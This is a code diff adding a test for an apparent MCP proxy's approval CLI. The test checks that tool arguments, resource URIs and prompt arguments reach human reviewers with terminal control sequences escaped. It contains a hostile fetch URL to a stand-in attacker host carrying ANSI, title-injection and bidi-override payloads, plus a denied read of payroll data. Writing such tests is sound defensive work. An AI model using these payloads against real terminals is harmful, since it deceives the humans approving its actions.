@@ -516,3 +516,52 @@ def test_when_the_backend_exits_every_request_waiting_is_answered_and_recorded(
         ("server_to_client", "error", -32000),
     ]
     assert run.echoed() == []
+
+
+def test_the_human_sees_every_argument_the_uri_and_the_prompt_escaped(
+    asking: Callable[..., Asking],
+) -> None:
+    """What ``mcp-acp approvals list`` shows: a tool's arguments by name (a long value cut,
+    saying how long), a resource's URI, a prompt's name and arguments — with nothing a
+    client put in them reaching the terminal as a control sequence or a bidi override;
+    ``list --json`` gives the arguments whole."""
+    methods = ["tools/call", "resources/read", "prompts/get"]
+    rules = [
+        {"id": f"ask-{n}", "effect": "ask", "conditions": {"mcp_method": method}}
+        for n, method in enumerate(methods)
+    ]
+    run = asking({"version": "1", "rules": rules})
+    hostile = "https://attacker.example/?d=ok\x1b[2K\x1b]0;PWNED\x07\u202eevil"
+    arguments = {"url": hostile, "body": "x" * 300}
+    fetch = run.proxy.request("tools/call", {"name": "fetch", "arguments": arguments})
+    (waiting,) = run.pending()
+    assert waiting["arguments"] == arguments
+    listed = run.cli("list")
+    assert listed.returncode == 0, listed.stderr
+    for raw in ("\x1b", "\x07", "\u202e"):
+        assert raw not in listed.stdout
+    shown = (
+        'wants tools/call fetch (url="https://attacker.example/?d=ok\\u001b[2K'
+        '\\u001b]0;PWNED\\u0007\\u202eevil", body="' + "x" * 199 + "… (302 characters)); "
+        "rule ask-0"
+    )
+    assert shown in listed.stdout
+    assert run.cli("deny", waiting["id"]).returncode == 0
+    assert run.proxy.answer(fetch)["error"]["code"] == DENIED
+
+    read = run.proxy.request("resources/read", {"uri": "note://payroll/all-salaries"})
+    (waiting,) = run.pending()
+    assert waiting["uri"] == "note://payroll/all-salaries"
+    assert "wants resources/read note://payroll/all-salaries; rule ask-1" in run.cli("list").stdout
+    assert run.cli("deny", waiting["id"]).returncode == 0
+    assert run.proxy.answer(read)["error"]["code"] == DENIED
+
+    prompt = {"name": "summarise", "arguments": {"text": "anything"}}
+    get = run.proxy.request("prompts/get", prompt)
+    (waiting,) = run.pending()
+    assert (waiting["name"], waiting["arguments"]) == ("summarise", {"text": "anything"})
+    listed = run.cli("list").stdout
+    assert 'wants prompts/get summarise (text="anything"); rule ask-2' in listed
+    assert run.cli("deny", waiting["id"]).returncode == 0
+    assert run.proxy.answer(get)["error"]["code"] == DENIED
+    assert run.proxy.close() == 0
